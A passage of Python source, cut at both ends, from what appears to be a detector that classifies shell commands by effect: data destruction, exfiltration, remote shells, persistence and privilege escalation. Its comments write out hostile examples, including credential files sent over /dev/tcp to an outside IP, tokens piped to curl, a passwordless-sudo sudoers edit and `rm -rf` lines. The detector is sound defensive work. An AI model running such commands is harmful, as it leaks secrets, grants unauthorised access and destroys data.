        spec = self.table.remote_runners[runner]
        if spec.get("starts"):
            self.out.kinds.add("write")  # `docker run`, `kubectl run`: a container started
        n_prog = len(runner.split())
        argv = _without_switches(argv, n_prog)
        low = [a.lower() for a in argv]
        inner: list[str] = []
        after = spec.get("after")
        flag = spec.get("flag")
        module = _module_command(spec, argv)
        if module:
            self.shell(module, strict=False, depth=depth + 1)
            return True
        if flag is not None and not _module_runs_commands(spec, argv):
            return False  # `ansible db -m setup -a 'filter=…'`: the arguments of a module
        otherwise = spec.get("otherwise")
        if flag is not None and otherwise is not None and str(flag).lower() not in low[n_prog:]:
            # `screen -dmS job cmd`: no `-X stuff`, the session's own command
            spec, flag, after = otherwise, None, otherwise.get("after")
        also = [str(x).lower() for x in spec.get("also") or ()]
        if flag is not None:
            flags = [str(flag).lower(), *also]
            for k in range(n_prog, len(argv) - 1):
                given = next((f for f in flags if low[k] == f or low[k].startswith(f + "=")), "")
                if not given and _clustered(low[k], flags):
                    given = low[k]  # `script -qc 'cmd'`: the flag last of a cluster of letters
                if given:
                    value = argv[k + 1] if low[k] == given else argv[k].split("=", 1)[1]
                    if spec.get("typed"):  # `screen -X stuff 'cmd\n'`: the Enter typed after it
                        value = _TYPED_ENTER.sub("", value)
                    if spec.get("process"):  # started with no shell in between
                        value = process_line(value)
                    self.shell(value, strict=False, depth=depth + 1)
                    return True
            return False  # the command is given with its flag or not at all (`vagrant ssh`)
        start = _option_at(argv, n_prog, also, spec.get("value_flags") or ()) if also else -1
        if after is not None and str(after) in argv:
            inner = argv[argv.index(str(after)) + 1 :]
        elif start >= 0:  # `wsl -e sh -c …`: a flag the command follows
            inner = argv[start + 1 :]
        else:
            value_flags = {str(f) for f in (spec.get("value_flags") or [])}
            positional = int(spec.get("positional") or 0)
            k = n_prog
            seen = 0
            while k < len(argv):
                a = argv[k]
                if a == "--":
                    k += 1
                    continue
                if a.startswith("-") and (seen < positional or not positional):
                    # options before the command; with no positional (`pssh -h hosts 'cmd'`)
                    # every option before the first word
                    k += 2 if takes_value(a, value_flags) else 1
                    continue
                if seen < positional:
                    seen += 1
                    k += 1
                    continue
                break
            inner = argv[k:]
            functions = spec.get("functions")
            if functions is not None:
                # `salt '*' cmd.run 'cmd'`: only the named functions carry a command
                if not inner or inner[0].lower() not in functions:
                    return False
                inner = inner[1:]
        if spec.get("flags_anywhere") and "--" not in argv:
            # `heroku run bash -a app -c '…'`: the runner's own options may follow the command's
            # first word (before `--` only)
            inner = _without_options(inner, {str(f) for f in spec.get("value_flags") or ()})
        keys = spec.get("keys")
        if keys:  # `tmux send-keys 'rm -rf /x' Enter`: the key names typed after the text
            inner = [x for x in inner if x.lower() not in keys]
            inner = [" ".join(inner)] if inner else []
        if not inner:
            return False
        if spec.get("starts"):
            # `docker run -v ~/.aws:/a img cat /a/credentials`: the host's files by their names
            mounts = bind_mounts(
                self.table.manifests["mount_flags"], argv[: len(argv) - len(inner)]
            )
            if mounts:
                inner = [_host_paths(x, mounts) for x in inner]
        if (
            runner in ("ssh", "psexec", "winrs", "gcloud compute ssh")
            or (len(inner) == 1 and len(inner[0].split()) > 1)  # a quoted command line
            or len(words) != len(argv)
            or depth >= MAX_DEPTH
        ):
            line = " ".join(inner)
            if spec.get("process"):  # started with no shell in between
                line = process_line(line)
            self.shell(line, strict=False, depth=depth + 1, pwsh=pwsh)
        else:  # run by `_one` in the runner's place (its substitutions already ran)
            self.inner = [
                Word(x, quoted=w.quoted, split=w.split, proc_sub=w.proc_sub)
                for x, w in zip(inner, words[len(words) - len(inner) :], strict=True)
            ]
        return True

    def _other_languages(self, text: str) -> None:
        """Commands that code in other languages runs in ways the call scanner does not see:
        Ruby's, Perl's and PHP's backticks, `%x(…)` and `qx(…)` (JavaScript's backticks are
        strings), a string a runner is called on (`'rm -rf /x'.execute()`, `"rm -rf /x".!`), a
        runner called without parentheses (`callCommand "rm -rf /x"`, `Sys.command "…"`),
        Swift's `Process` (`executableURL`/`launchPath` and `arguments`), Tcl's `exec` (braces
        quote)."""
        if not code.looks_like_js(text):
            for quoted in code.shell_quoted(text):
                self.out.kinds.add("exec")  # the code runs it, whatever it does
                self.shell(quoted, strict=False, depth=1)
        elif "$`" in text:
            for quoted in code.js_shell_templates(text):  # zx's and Bun's `$\`…\``
                self.out.kinds.add("exec")
                self.shell(quoted, strict=False, depth=1)
        cat = self.table.code_calls
        for lit in code.string_receivers(text, cat.names("string_runners")):
            self.out.kinds.add("exec")
            self.shell(lit, strict=False, depth=1)
        if '"' in text:
            for m in _PARENLESS_STRING.finditer(text, 0, 65536):
                name = m.group(1).lower()
                if cat.hit("shell", name) or cat.hit("bare_shell", name):
                    self.out.kinds.add("exec")
                    self.shell(_unescape_dq(m.group(2)[1:-1]), strict=False, depth=1)
        if "arguments" in text and ("executableURL" in text or "launchPath" in text):
            program = _SWIFT_PROGRAM.search(text)
            words = _SWIFT_ARGUMENTS.search(text)
            if program is not None:
                args = code.string_literals(words.group(1), 64) if words is not None else []
                self.argv([program.group(1), *args], "command")
        if "exec" in text and "{" in text:
            for m in _TCL_EXEC.finditer(text, 0, 65536):
                line = _TCL_BRACES.sub(_single_quoted, m.group(1))
                self.shell(line, strict=False, depth=1)

    def _start_info(self, text: str) -> None:
        """.NET's `new ProcessStartInfo { FileName = "bash", Arguments = "-c \\"rm -rf /x\\"" }`
        (or `psi.FileName = …; psi.Arguments = …;`): the program it starts, with its arguments."""
        found = {m.group(1): _unescape_dq(m.group(2)) for m in _START_INFO.finditer(text)}
        if found.get("FileName"):
            self.shell(f"{found['FileName']} {found.get('Arguments', '')}", strict=False, depth=1)

    def _start_process(self, argv: list[str], depth: int) -> bool:
        """PowerShell's `Start-Process FILE -ArgumentList 'a','b'` (or a string of them): the
        program started with its arguments. True when one was read."""
        named = {"-filepath": "file", "-file": "file", "-path": "file", "-argumentlist": "args",
                 "-args": "args", "-arguments": "args"}  # fmt: skip
        values: dict[str, str] = {}
        positional: list[str] = []
        k = 1
        while k < len(argv):
            a = argv[k]
            low = a.lower()
            if low in named and k + 1 < len(argv):
                values[named[low]] = argv[k + 1]
                k += 2
                continue
            if a.startswith("-"):
                k += 2 if k + 1 < len(argv) and not argv[k + 1].startswith("-") else 1
                continue
            positional.append(a)
            k += 1
        file = values.get("file") or (positional[0] if positional else "")
        args = values.get("args") or (positional[1] if len(positional) > 1 else "")
        if not file:
            return False
        if "," in args:  # an array (`'-NoProfile','-Command','…'`): one word an element
            parts = args.split(",")
            for i, part in enumerate(parts[:-1]):
                if part.lower() in _COMMAND_FLAGS:  # the command takes the rest, commas too
                    parts = [*parts[: i + 1], ",".join(parts[i + 1 :])]
                    break
            self.argv([file, *(x for x in parts if x)], "command")
        else:
            self.shell(f"{shell_word(file)} {args}".strip(), strict=False, depth=depth + 1)
        return True

    def _parallel(
        self, argv: list[str], c: Cmd, depth: int, pwsh: bool, upstream: list[_Ran]
    ) -> None:
        """GNU parallel: its command once per argument after `:::` (`{}` replaced by it, else
        the argument appended); with no command, each argument is a command line; with no
        `:::`, what flows in is its input, as for xargs (`find … | parallel rm {}`)."""
        k = 1
        while k < len(argv) and argv[k].startswith("-") and not argv[k].startswith(":::"):
            k += 2 if takes_value(argv[k], _PARALLEL_VALUE_FLAGS) else 1
        rest = argv[k:]
        sep = next((i for i, a in enumerate(rest) if a.startswith(":::")), len(rest))
        command = rest[:sep]
        if sep == len(rest):
            if command and not any("--" + x in argv[1:k] for x in ("nonall", "onall")):
                self._xargs(["xargs", *(w for w in command if w != "{}")], c, depth, pwsh, upstream)
            elif command:  # `--nonall`: the command once on each server
                self.shell(" ".join(command), strict=False, depth=depth + 1, pwsh=pwsh)
            return
        args = [a for a in rest[sep + 1 :] if not a.startswith(":::")][:16]
        template = " ".join(command)
        for a in args:
            if not template:
                line = a
            elif "{}" in template:
                line = template.replace("{}", a)
            else:
                line = f"{template} {a}"
            self.shell(line, strict=False, depth=depth + 1, pwsh=pwsh)

    def _xargs(self, argv: list[str], c: Cmd, depth: int, pwsh: bool, upstream: list[_Ran]) -> None:
        value_flags = {
            "-I",
            "-i",
            "-n",
            "-P",
            "-d",
            "-L",
            "-s",
            "-E",
            "-a",
            "--max-args",
            "--max-procs",
            "--delimiter",
            "--replace",
            "--arg-file",
        }
        k = 1
        replace = ""  # `-I {}`: each input item put where that string stands
        while k < len(argv) and argv[k].startswith("-"):
            a = argv[k]
            if a in ("-I", "--replace") and k + 1 < len(argv):
                replace = argv[k + 1]
            elif a.startswith(("-I", "--replace=")) or a in ("-i", "--replace"):
                replace = a[2:] if a.startswith("-I") else a.partition("=")[2] or "{}"
            k += 2 if a in value_flags else 1
        inner = argv[k:]
        if not inner:
            inner = ["echo"]
        # what flows in: the roots a `find` or `ls` upstream lists, else every item of a list
        roots: list[str] = []
        literal = False  # the items themselves (echoed), not what a listing's roots hold
        selective = False
        mass = False
        for r in _same_pipeline(c, upstream):
            if r.cmd.stage >= c.stage:
                continue
            p = r.words.program
            if p == "find":
                roots = _find_roots(r.words.argv)
                selective = any(a in _FIND_FILTERS for a in r.words.low)
                literal = False
            elif p in ("ls", "dir", "get-childitem", "gci"):
                roots = [a for a in r.words.argv[1:] if not a.startswith("-")] or ["*"]
                literal = False
            elif p in ("echo", "printf"):
                roots = [a for a in r.words.argv[1:] if not a.startswith("-") and "%" not in a]
                literal = bool(roots)
            elif (
                p in ("docker", "podman", "kubectl", "redis-cli")
                or "-q" in r.words.low
                or "--quiet" in r.words.low
                or (p in self.table.cloud_programs and _lists_everything(r.words))
                or _whole_listing(self.table, r.words.text)
            ) and not (
                _narrowed_listing(r.words.argv, self.table.listing_filters)
                or _scratch_pattern(self.table, r.words.argv)
            ):
                mass = True
        fed = c.heredoc
        if fed is None:  # `xargs rm -rf <<< /srv/data`: the here-string is what flows in
            fed = next((r.target.text for r in c.redirects if r.op == "<<<"), None)
        if fed is not None and not roots and not mass:
            roots = fed.split()[:32]
        if mass:
            inner = inner + ["$(…)"]
        elif literal and replace and any(replace in x for x in inner):
            inner = [x.replace(replace, roots[0]) for x in inner]  # `xargs -I{} sh -c {}`
        elif roots:
            inner = inner + roots
        sub = Cmd([Word(x) for x in inner], text=" ".join(argv), pipeline=c.pipeline, stage=c.stage)
        self.budget -= 1
        before = len(self.out.effects)
        self._one(
            sub,
            sub.words,
            depth + 1,
            pwsh,
            recursive_ctx=bool(roots) and not selective,
            upstream=[],
        )
        if mass:  # one item deleted per item a full listing printed: every item
            for k in range(before, len(self.out.effects)):
                e = self.out.effects[k]
                if e.kind == "destroy" and e.scope == "item":
                    what = describe(
                        "deletes every item listed before it", "", False, " ".join(argv)
                    )
                    self.out.effects[k] = Effect("destroy", "data", what)

    def ldif(self, text: str) -> None:
        """LDIF change records (`dn: cn=admin,…` / `changetype: modify` / `replace:
        userPassword`): an administrator's password replaced makes their account the
        writer's."""
        for record in text[:65536].split("\n\n")[:64]:
            dn = ""
            sets_password = False
            for raw in record.splitlines()[:256]:
                name, _, value = raw.partition(":")
                name = name.strip().lower()
                if name == "dn":
                    dn = value.strip()
                elif name in ("replace", "add") and value.strip().lower() == "userpassword":
                    sets_password = True
            first = dn.split(",", 1)[0].partition("=")[2].lower()
            if sets_password and not self.table.admin_nouns.isdisjoint(name_words(first)):
                what = describe(f"sets the password of an administrator ({dn})", "", False, dn)
                self.out.add(Effect("escalate", "all", what))

    def _image_moved(self, pos: list[str], w: Words) -> None:
        """`docker tag acme/api jdoe/api && docker push jdoe/api`: an image of one account
        pushed under another's — it leaves, unless that account is the organisation's
        (`Policy.internal_repositories`)."""
        if pos[0].lower() == "tag":
            if len(pos) >= 3 and len(self.retagged) < 16:
                self.retagged[pos[2].lower()] = pos[1].lower()
            return
        dst = pos[1].lower()
        src = self.retagged.get(dst)
        if src is None or "/" not in src or "/" not in dst:
            return
        src_owner, dst_owner = src.rsplit("/", 2)[-2], dst.rsplit("/", 2)[-2]
        src_reg = src.split("/", 1)[0] if src.count("/") >= 2 else "docker.io"
        dst_reg = dst.split("/", 1)[0] if dst.count("/") >= 2 else "docker.io"
        if src_owner == dst_owner and src_reg == dst_reg:
            return
        repo = dst.split(":", 1)[0] if dst.count("/") < 2 else dst.split("/", 1)[1]
        if self.dest_class(f"https://{dst_reg}/{repo}") != "internal":
            what = describe(f"pushes the image {src} as {dst}", "", False, w.text)
            self.out.add(Effect("exfiltrate", "", what))

    def _repo_transfer(self, pos: list[str], w: Words) -> None:
        """`gh repo transfer acme/api jdoe --yes`: the repository, its history and its issues
        given to another account — outside, unless that account is the organisation's
        (`Policy.internal_repositories`)."""
        if len(pos) < 4 or "/" not in pos[2]:
            return
        owner, _, name = pos[2].partition("/")
        to = pos[3].strip("/")
        if to.lower() == owner.lower():
            return
        if self.dest_class(f"https://github.com/{to}/{name}") != "internal":
            what = describe(f"gives the repository to {to}", "", False, w.text)
            self.out.add(Effect("exfiltrate", "", what))

    def _admin_password(self, w: Words) -> None:
        """`az ad user update --id breakglass@… --password …`: a password set (a subcommand that
        changes a credential; `mysql --user=admin --password=…` only logs in) for an account
        named as an administrator (`root-admin`, a break-glass account) makes it the setter's."""
        named = ""
        sets = False
        for k, a in enumerate(w.low[:64]):  # (`low` holds the words after the program)
            flag, eq, value = a.partition("=")
            if not eq:
                value = w.argv[k + 2] if k + 2 < len(w.argv) else ""
            if flag in _PASSWORD_FLAGS and value:
                sets = True
            elif flag in _ACCOUNT_FLAGS and value:
                named = value
        if (
            sets
            and named
            and not self.table.admin_nouns.isdisjoint(name_words(named.lower()))
            and credential_change_words(self.table, w)
        ):
            what = describe(f"sets the password of an administrator ({named})", "", False, w.text)
            self.out.add(Effect("escalate", "all", what))

    def _each_listed(self, words: list[Word], w: Words, j: Judged) -> None:
        """`for u in $(ipa user-find); do ipa user-del $u; done`, `kubectl delete $(kubectl get
        ns -o name)`: a deletion given every item a whole listing prints deletes every item."""
        if not any(_whole_listing(self.table, sub) for word in words[1:] for sub in word.subs[:4]):
            return
        if not any(e.kind == "destroy" for e in j.effects) and not destroy_words(self.table, w):
            return
        what = describe("deletes every item a listing printed", "", False, w.text)
        self.out.add(Effect("destroy", "data", what))

    def _find(self, argv: list[str], c: Cmd, depth: int, pwsh: bool) -> None:
        roots = _find_roots(argv) or ["."]
        low = [a.lower() for a in argv]
        selective = any(a in _FIND_FILTERS and not _match_all(argv, k) for k, a in enumerate(low))
        text = c.text or " ".join(argv)
        scope_of = lambda: _worst([self.table.path_scope(r, True) for r in roots])  # noqa: E731
        if "-delete" in low:
            scope = scope_of()
            if selective and scope not in ("all",):
                scope = "item" if scope != "temp" else "temp"
            what = "deletes files found in" if selective else "deletes everything in"
            self.out.add(
                Effect(
                    "destroy",
                    scope,
                    describe(
                        what if scope != "all" else "deletes everything",
                        scope if scope != "all" else "",
                        False,
                        text,
                    ),
                )
            )
        for k, a in enumerate(low):
            if a in ("-exec", "-execdir", "-ok", "-okdir"):
                end = k + 1
                while end < len(argv) and argv[end] not in (";", "+", "\\;"):
                    end += 1
                inner = argv[k + 1 : end]
                if not inner:
                    continue
                # what `{}` stands for: the root, or what a name filter picks under it
                found = roots[0]
                pattern = _find_name(argv) if selective else ""
                if pattern and self.table.path_scope(roots[0], True) != "all":
                    found = f"{roots[0].rstrip('/')}/{pattern}"
                inner = [found if x == "{}" else x.replace("{}", found) for x in inner]
                sub = Cmd([Word(x) for x in inner], text=text)
                self.budget -= 1
                self._one(sub, sub.words, depth + 1, pwsh, recursive_ctx=not selective, upstream=[])

    # ------------------------------------------------------------------------ data and files
    def _db_client(self, prog: str, argv: list[str], c: Cmd, piped: str | None) -> None:
        """A database client's statements: in its arguments, a here-document, or what an
        `echo`/`printf` pipes into it (`printf 'DROP TABLE t;' | mysql shop`)."""
        rest = " ".join(a for a in argv[1:] if not a.startswith("-"))
        # an embedded database file made for tests or scratch work holds nothing to lose
        scratch = prog in _FILE_DBS and _scratch_db(self.table, argv)
        if rest and prog not in ("redis-cli", "valkey-cli", "mongo", "mongosh"):
            if _sql_first(rest) and sqlx.looks_like_sql(rest):
                self.sql(rest, strict=False, temp=scratch, client=prog)
            else:  # a statement given as one word after a subcommand (`bq query '…'`)
                for a in argv[2:]:
                    if " " in a and _sql_first(a) and sqlx.looks_like_sql(a):
                        self.sql(a, strict=False, temp=scratch, client=prog)
                    elif " " in a and "(" in a and sqlx.looks_like_cypher(a):
                        self._cypher(a)  # `cypher-shell -a bolt://… "MATCH (n) DETACH DELETE n"`
        fed = c.heredoc or piped
        if fed and prog not in ("redis-cli", "valkey-cli"):
            if prog in ("mongo", "mongosh"):
                self.snippet(fed, "code")
            elif c.heredoc or (_sql_first(fed) and sqlx.looks_like_sql(fed)):
                self.sql(fed, strict=False, client=prog)

    def _applescript(self, body: str) -> None:
        """AppleScript's own statements (`tell application "Finder" to delete every item of
        folder "Documents" of home`): `delete every …` with no `whose` deletes all an
        application holds of a kind — files, messages, contacts, notes; a script that only
        gets and counts reads."""
        kind = "read"
        for raw in body.splitlines()[:200]:
            line = raw.lower()
            m = _APPLESCRIPT_TELL_TO.match(line)
            stmt = line[m.end() :] if m is not None else line
            verb = stmt.split(None, 1)[0].strip("(") if stmt.strip() else ""
            if not verb or verb in _APPLESCRIPT_READS:
                continue
            kind = "exec"  # a script that acts (as `osascript` was judged before it was read)
            if verb == "delete" and _EVERY.search(stmt) and " whose " not in stmt:
                said = raw[m.end() :] if m is not None else raw
                what = describe("deletes every item of a kind", "", False, said.strip())
                self.out.add(Effect("destroy", "data", what))
        self.out.kinds.add(kind)

    def _printed_statements(self, c: Cmd, upstream: list[_Ran]) -> str | None:
        """Statements the stage before a database client prints: a command the table says prints
        another's (`manage.py sqlflush` — judged here as `manage.py flush`), or a query that
        builds statements from its string literals (`select 'drop table ' || tablename …`:
        `drop table each_table`, one name standing for each row)."""
        for u in _same_pipeline(c, upstream):
            if u.cmd.stage != c.stage - 1:
                continue
            argv = u.words.argv
            found = names_pair(argv, self.table.statement_printers)
            if found is not None:
                k, name = found
                does = self.table.statement_printers[(name, argv[k].lower())]
                self.argv([*argv[:k], does, *argv[k + 1 :]], "command")
                return None
            if u.words.program not in self.table.db_clients:
                return None
            for a in argv[1:]:
                if "'" not in a or _SELECTS.search(a) is None:
                    continue
                literals = _SQL_LITERAL.findall(a, 0, 4096)
                if literals and _sql_first(literals[0]):
                    return " each_table ".join(literals[:8])
        return None

    def _store_protocol(self, prog: str, w: Words, c: Cmd, upstream: list[_Ran]) -> bool:
        """A data store's commands fed as text — into its client, or through a raw socket to
        the store's port (`store_protocols`): each line is judged as the client's command line.
        False when nothing is fed or no store's port is named."""
        t = self.table
        client = prog if prog in t.store_clients else ""
        if not client:
            for i in w.positional:
                client = t.store_ports.get(w.argv[1 + i], "")
                if client:
                    break
        fed = (c.heredoc or _piped_text(c, upstream, adjacent=True)) if client else None
        if not fed:
            return False
        for line in _FED_LINES.split(fed[:4096])[:16]:
            words = line.split()
            if words:
                self.argv([client, *words], "command")
        return True

    def _sql_options(self, argv: list[str]) -> None:
        """SQL given to any tool by an option that names a statement (`wrangler d1 execute
        --command "DROP TABLE t"`, `aws rds-data execute-statement --sql …`, `snow sql -q …`)."""
        for i, a in enumerate(argv[1:-1], 1):
            if a[:1] != "-":
                continue
            name, eq, inline = a.partition("=")
            if name.lstrip("-").lower() not in _SQL_OPTIONS:
                continue
            value = inline if eq else argv[i + 1]
            if " " in value and _sql_first(value) and sqlx.looks_like_sql(value):
                self.sql(value, strict=True)

    def _redirects(self, c: Cmd, w: Words, j: Judged, depth: int, piped: str | None) -> None:
        sent = False
        for r in c.redirects:
            target = r.target.text
            m = _DEV_TCP.match(target)
            if m is not None:
                if (
                    w.program in self.table.shells
                    or w.program in ("exec", "sh", "bash")
                    or "-i" in w.low
                ):
                    self.out.add(
                        Effect(
                            "remote_control",
                            "",
                            describe("binds a shell to a network connection", "", False, c.text),
                        )
                    )
                elif (
                    r.op in (">", ">>", ">|", "&>", "&>>")
                    and not sent
                    and self.dest_class(m.group(1)) != "internal"
                ):
                    sent = True  # (one socket judged per command: its source read once)
                    # `cat ~/.kube/config > /dev/tcp/203.0.113.5/8080`: what it prints, sent
                    self.out.urls.append(f"tcp://{m.group(1)}")
                    source = self._source(w, j, c)
                    if source:
                        what = describe(
                            f"sends {_short(source)} to {m.group(1)}", "", False, c.text
                        )
                        self.out.add(Effect("exfiltrate", "", what))
                continue
            if (
                r.op in (">", ">>", ">|", "&>", "&>>")
                and r.fd in ("", "1", "2")
                and target not in ("/dev/null", "nul", "$null", "&1", "&2")
            ):
                if r.fd == "2":
                    continue
                content = None
                if w.program in ("echo", "printf", "write-output", "write-host"):
                    content = " ".join(w.argv[1:])
                    if w.program == "printf" or "-e" in w.low:  # `printf 'a\nb'`: two lines
                        content = _ESCAPES.sub(lambda m: _ESCAPED[m.group(0)], content)
                elif c.heredoc is not None:
                    content = c.heredoc
                emptied = not w.argv or w.program in (":", "true")  # `> f`, `: > f`
                self.file_write(
                    target, content, r.op in (">>", "&>>"), c.text, depth, emptied=emptied
                )
                self.out.kinds.add("write")
            if r.op == "<" and self.table.is_credential(target):
                self.out.secret_sources.append(target)
        if w.program == "visudo" and piped is not None:
            # `echo '… NOPASSWD:ALL' | sudo EDITOR='tee -a' visudo`: the piped line is the edit
            target = _value_after(w.argv, ("-f", "--file")) or "/etc/sudoers"
            self.file_write(target, piped, True, c.text, depth)
        if w.program in ("tee", "tee-object", "add-content", "set-content", "out-file"):
            targets = [a for a in w.argv[1:] if not a.startswith("-")]
            if w.program in ("add-content", "set-content", "out-file"):
                targets = targets[:1]
                value = _value_after(w.argv, ("-value",))
                append = w.program in ("add-content", "ac") or "-append" in w.low
            else:
                value = piped
                append = "-a" in w.low or "--append" in w.low
            for t in targets:
                self.file_write(t, value if value is not None else piped, append, c.text, depth)
        if w.program == "crontab" and not any(a == "-l" for a in w.low):
            body = piped if piped is not None else c.heredoc
            if body:
                for line in body.splitlines():
                    cmd = _cron_body(line, False)
                    if cmd:
                        self.shell(cmd, strict=False, depth=depth + 1)
        if w.program in ("sed", "perl") and any(a.startswith("-i") or a == "-pi" for a in w.low):
            targets = [a for a in w.argv[1:] if not a.startswith("-")]
            if len(targets) >= 2:
                expr, files = targets[0], targets[1:]
                for f in files:
                    self.file_write(f, _sed_replacement(expr), False, c.text, depth)
        if w.program in ("cp", "install", "ln", "copy-item", "copy", "mv"):
            pos = [a for a in w.argv[1:] if not a.startswith("-")]
            if len(pos) >= 2:
                self.file_write(pos[-1], None, False, c.text, depth, copy=True)

    def file_write(
        self,
        path: str,
        content: str | None,
        append: bool,
        text: str,
        depth: int,
        copy: bool = False,
        emptied: bool = False,
    ) -> None:
        """Writing `content` (None: unknown) to `path`: persistence, a security setting, a
        system file overwritten, or an ordinary write. `emptied`: truncated to nothing (`> f`)."""
        t = self.table
        p = normalize_path(path)
        if not p or p.startswith("&"):
            return
        self.out.kinds.add("write")
        if content and len(self.scripts) < 16:  # kept in case the call runs it next
            for key in (p, _file_name(p)):
                before = self.scripts.get(key, "") if append else ""
                self.scripts[key] = (before + "\n" + content if before else content)[:65536]
        if content and t.code_calls.web_shell(content):
            what = describe("installs a web shell (runs what a request sends) in", "", False, text)
            self.out.add(Effect("remote_control", "", what))
            return
        if p in t.paths.halts:
            what = describe(
                "crashes, reboots or powers off the machine by writing", "", False, text
            )
            self.out.add(Effect("stop_service", "system", what))
            return
        if content is not None and t.settings.weakens(p, content):
            self.out.add(
                Effect(
                    "weaken_security",
                    "",
                    describe("weakens a security setting in", "", False, text),
                )
            )
            return
        opened = t.exposure.opened(p, content) if content else ""
        if opened:
            # a firewall rule, RBAC binding or security rules that let anyone in (`exposure:`)
            self.out.add(Effect("weaken_security", "", describe(f"{opened} in", "", False, text)))
            return
        if t.is_security_config(p):
            if p.endswith("authorized_keys") and (
                content is None or "ssh-" in content or "ecdsa" in content
            ):
                root = (
                    p.startswith("/root") or "root" in text.split("authorized_keys")[0].split()[-1:]
                )
                if root or p.startswith("/root/"):
                    self.out.add(
                        Effect(
                            "weaken_security",
                            "",
                            describe("adds a key to root's authorized_keys", "", False, text),
                        )
                    )
                else:
                    self.out.add(
                        Effect("access_change", "", describe("adds an SSH key", "", False, text))
                    )
                return
            if (
                p in ("/etc/passwd", "/etc/shadow", "/etc/group", "/etc/sudoers")
                and append
                and content
            ) and (":0:" in content or re.search(r"\b(?:sudo|wheel|admin|root)\b", content)):
                self.out.add(
                    Effect(
                        "escalate",
                        "all",
                        describe("adds a root or admin account", "", False, text),
                    )
                )
                return
            if (
                not append
                and content is None
                and p in ("/etc/passwd", "/etc/shadow", "/etc/sudoers", "/etc/group")
            ):
                # truncated, or replaced by another file (`mv`, `cp`): every account's entry
                what = "replaces" if copy else "overwrites"
                self.out.add(Effect("destroy", "system", describe(what, "system", False, text)))
                return
        if p.endswith("package.json") and content and _NPM_LIFECYCLE.search(content):
            # the scripts npm runs by itself on the next install (`postinstall`)
            self.out.add(
                Effect(
                    "persist",
                    "",
                    describe(
                        "installs a command that runs on the next install in", "", False, text
                    ),
                )
            )
            for m in _NPM_LIFECYCLE.finditer(content[:65536]):
                self.shell(_json_string(m.group(1)), strict=False, depth=depth + 1)
            return
        if content and p.endswith(_AUTORUN_JSON):
            # an editor's or agent's own settings whose commands it runs by itself (a task run
            # on opening the folder, a dev container's lifecycle commands, an agent's hooks)
            runs = _autorun_commands(p, content)
            if runs:
                self.out.add(
                    Effect(
                        "persist",
                        "",
                        describe("installs a command that runs by itself in", "", False, text),
                    )
                )
                for body in runs:
                    self.shell(body, strict=False, depth=depth + 1)
                return
        if content and p.endswith(_GIT_CONFIG_FILES):
            # a Git config file: its settings Git runs as commands (`fsmonitor = …`) persist
            for key, value in _ini_settings(content):
                if key == "core.hookspath":
                    self.hook_dirs.append(normalize_path(value))
                elif any(fnmatch.fnmatchcase(key, g) for g in t.git_run_settings):
                    what = describe("sets a command Git runs later in", "", False, text)
                    self.out.add(Effect("persist", "", what))
                    self.shell(value.lstrip("!"), strict=False, depth=depth + 1)
            return
        if content and "pam_exec" in content and "/pam.d/" in p:
            # `session optional pam_exec.so /usr/local/bin/x`: a program run at every login
            what = "makes every login through it run a program, as root"
            self.out.add(Effect("weaken_security", "", describe(what, "", False, text)))
        if t.is_persistence(p) or any(p.startswith(d + "/") for d in self.hook_dirs):
            self.out.add(
                Effect(
                    "persist",
                    "",
                    describe("installs a command that runs again later in", "", False, text),
                )
            )
            if content and p.endswith(".py"):
                self.snippet(content, "code")  # `sitecustomize.py`: Python runs it at start
            elif content:
                for body in _persisted_commands(p, content):
                    self.shell(body, strict=False, depth=depth + 1)
                if p.endswith("ld.so.preload"):
                    self.out.add(
                        Effect(
                            "escalate",
                            "all",
                            describe("preloads a library into every program", "", False, text),
                        )
                    )
            return
        if (
            not append
            and not copy
            and t.path_scope(p, False) in ("all", "system")
            and not p.startswith(("/dev/", "/proc/"))
        ):
            if p.startswith("/etc/") and content and len(content) > 8:
                return  # writing a configuration file
            self.out.add(Effect("destroy", "system", describe("overwrites", "system", False, text)))
        elif emptied and not append and t.path_scope(p, False) == "data":
            # `> /srv/app/data/app.sqlite3`: a database's own file emptied is the database
            self.out.add(Effect("destroy", "data", describe("empties", "data", False, text)))
        elif p.startswith("/dev/") and re.match(r"/dev/(?:sd|hd|vd|xvd|nvme|mmcblk|disk|md)", p):
            self.out.add(Effect("destroy", "all", describe("overwrites a disk", "", False, text)))
        elif t.is_audit_log(p) and not append:
            self.out.add(
                Effect("weaken_security", "", describe("empties an audit log", "", False, text))
            )

    def _source(self, w: Words, j: Judged, c: Cmd) -> str:
        """A secret this command reads (a credential file, a secret store, the environment)."""
        for e in j.effects:
            if e.kind == "read_secret":
                return w.text
        untouched = self.table.credential_untouched_by
        if (
            w.program in untouched
            or any(e.kind == "destroy" for e in j.effects)
            or (
                w.positional
                and f"{w.program} {w.low[w.positional[0]]}" in untouched
                and not any(a in _PATCH_FLAGS or a.startswith("--patch") for a in w.low)
            )
        ):
            return ""
        for a in w.argv[1:]:
            path = a
            if "," in a:  # PowerShell's lists, `-Include *.kdbx,*.pfx,id_rsa`: each item
                path = next((p for p in a.split(",", 16) if self.table.is_credential(p)), a)
            path = path[1:] if path.startswith("@") else path
            if not path.startswith("-") and self.table.is_credential(path):
                self.out.add(
                    Effect(
                        "read_secret", "", describe("touches a credential file", "", False, w.text)
                    )
                )
                return path
        if self._dump_of(w) is not None:
            return w.text  # `pg_dump app | curl -T - …`: the database's content
        if (
            w.program in self.table.data_packers
            and any(
                w.argv[1 + i][:1] in ("/", "~")  # a location, not a project's folder (`./docs`)
                and (
                    self.table.path_scope(w.argv[1 + i], True) in ("data", "all")
                    or self.table.is_security_config(w.argv[1 + i])  # `/etc/passwd`: accounts
                )
                for i in w.positional[:8]
            )
        ):
            return w.text  # `tar czf - /srv/data/customers | nc …`: the data itself
        if w.program in self.table.secret_outputs and not any(a.startswith("-") for a in w.low):
            return w.text  # `history | curl -d @- …`: what was typed, passwords included
        if w.program in ("printenv", "echo", "printf") and self._secret_variable(w):
            return w.text  # `printenv GITHUB_TOKEN | curl -d @- …`: the secret's value
        meta = self.table.metadata_credentials
        if any(_METADATA_HINT.search(a) for a in w.low) and any(
            m in a for a in w.low for m in meta
        ):
            self.out.add(
                Effect(
                    "read_secret",
                    "",
                    describe("reads the instance's cloud credentials", "", False, w.text),
                )
            )
            return w.text
        return ""

    def _secret_carried(self, sink: Sink) -> str:
        """A secret variable in what a request carries — its body (`-d "$AWS_SECRET_…"`, `-F`,
        `--json`) or its URL (`?k=$TOKEN`), never its authentication headers — or a CI
        system's secret (`${{ secrets.X }}`) anywhere in it."""
        words = sink.words[:64]
        m = _CI_SECRET.search(sink.what[:4096])
        if m is not None:
